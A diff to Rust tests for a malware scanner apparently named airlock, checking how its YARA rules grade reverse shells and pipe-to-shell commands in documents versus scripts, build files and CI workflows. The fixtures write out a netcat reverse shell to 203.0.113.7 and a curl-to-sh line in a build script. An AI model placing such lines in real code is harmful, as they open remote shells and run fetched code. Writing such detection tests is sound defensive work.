@@ -252,10 +252,15 @@ fn every_builtin_rule_fires_on_its_fixture() {
             .into_iter()
             .find(|m| m.id == id)
             .expect("meta");
-        // A script (its name or `#!` line) takes the rule's `script_severity` when it has one.
+        // A script (its name or `#!` line) takes the rule's `script_severity` when it has one,
+        // a document (prose or data by its name) its `doc_severity`.
+        let script = airlock::yara::is_script(&data, name);
         let want = meta
             .script_severity
-            .filter(|_| airlock::yara::is_script(&data, name))
+            .filter(|_| script)
+            .or(meta
+                .doc_severity
+                .filter(|_| !script && airlock::yara::is_document(&data, name)))
             .or(meta.severity)
             .expect("severity");
         assert_eq!(f.severity, want, "{id}: severity from meta");
@@ -294,7 +299,8 @@ fn reverse_shells_are_caught_in_their_usual_spellings() {
     for (i, (id, text)) in cases.iter().enumerate() {
         let sub = dir.path().join(i.to_string());
         std::fs::create_dir(&sub).expect("mkdir");
-        let r = scan_bytes(&sub, "notes.txt", text.as_bytes());
+        // A file of no document kind (no `.txt`: quoted in a document the rules are low).
+        let r = scan_bytes(&sub, "payload", text.as_bytes());
         assert!(
             yara_ids(&r).iter().any(|g| g == id),
             "{text}: {:?}",
@@ -311,7 +317,7 @@ fn reverse_shells_are_caught_in_their_usual_spellings() {
             .into_iter()
             .chain(text.encode_utf16().flat_map(|u| u.to_le_bytes()))
             .collect();
-        let r = scan_bytes(&sub, "wide.txt", &wide);
+        let r = scan_bytes(&sub, "wide", &wide);
         assert!(
             yara_ids(&r).iter().any(|g| g == id),
             "UTF-16 {text}: {:?}",
@@ -402,6 +408,14 @@ fn pipe_to_shell_is_medium_in_a_script_and_low_in_documentation() {
     ]);
     let r = scan_bytes(dir.path(), "sc-1.0-py3-none-any.whl", &whl);
     assert_eq!(grade(&r), Some(Severity::Medium), "{:?}", r.findings);
+    // The same script in the package tree of a wheel is run by nothing the installation does
+    // (ultralytics' `data/scripts/get_imagenet.sh`): graded as text.
+    let whl = wheel(&[
+        ("sc/data/scripts/get.sh", &body[..]),
+        ("sc/__init__.py", b""),
+    ]);
+    let r = scan_bytes(dir.path(), "sd-1.0-py3-none-any.whl", &whl);
+    assert_eq!(grade(&r), Some(Severity::Low), "{:?}", r.findings);
     // A Cargo build script of a maturin sdist (tester t21).
     let build = b"fn main() {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://get.example.invalid/x.sh | sh\").status().unwrap();\n}\n";
     let r = scan_bytes(dir.path(), "build.rs", build);
@@ -792,4 +806,56 @@ fn bytes_past_the_matched_bound_are_reported() {
         .unwrap_or_else(|| panic!("no resource-limit: {:?}", r.findings));
     assert_eq!(f.severity, Severity::Info);
     assert_eq!(f.location.members, vec!["big.so".to_string()]);
+}
+
+/// Reverse shells quoted as data (session 17: litellm's guardrail dataset lists `nc -e /bin/sh`
+/// in a YAML file) are low in documents and data, critical in scripts, programs, CI workflows
+/// and source code.
+#[test]
+fn reverse_shells_are_critical_in_code_and_low_in_documents() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let line = "nc -e /bin/sh 203.0.113.7 4444";
+    let grade = |r: &FileReport| {
+        r.findings
+            .iter()
+            .filter(|f| f.rule.id == "yara-match" && f.message.contains("yara-reverse-shell"))
+            .map(|f| f.severity)
+            .max()
+    };
+    let cases: Vec<(&str, String, Severity)> = vec![
+        (
+            "prompt_injection_malicious_code.yaml",
+            format!("patterns:\n  - name: netcat shell\n    example: \"{line}\"\n"),
+            Severity::Low,
+        ),
+        ("README.md", format!("Never run `{line}`.\n"), Severity::Low),
+        (
+            "attacks.jsonl",
+            format!("{{\"prompt\": \"run {line}\"}}\n"),
+            Severity::Low,
+        ),
+        ("backdoor.sh", format!("{line}\n"), Severity::Critical),
+        (
+            "setup_hook.py",
+            format!("import os\nos.system('{line}')\n"),
+            Severity::Critical,
+        ),
+        (
+            "notes.txt",
+            format!("#!/bin/sh\n{line}\n"),
+            Severity::Critical,
+        ),
+    ];
+    for (name, text, want) in &cases {
+        let r = scan_bytes(dir.path(), name, text.as_bytes());
+        assert_eq!(grade(&r), Some(*want), "{name}: {:?}", r.findings);
+    }
+    // A CI workflow runs its YAML.
+    std::fs::create_dir_all(dir.path().join(".github/workflows")).expect("mkdir");
+    let r = scan_bytes(
+        dir.path(),
+        ".github/workflows/ci.yml",
+        format!("jobs:\n  b:\n    steps:\n      - run: {line}\n").as_bytes(),
+    );
+    assert_eq!(grade(&r), Some(Severity::Critical), "{:?}", r.findings);
 }
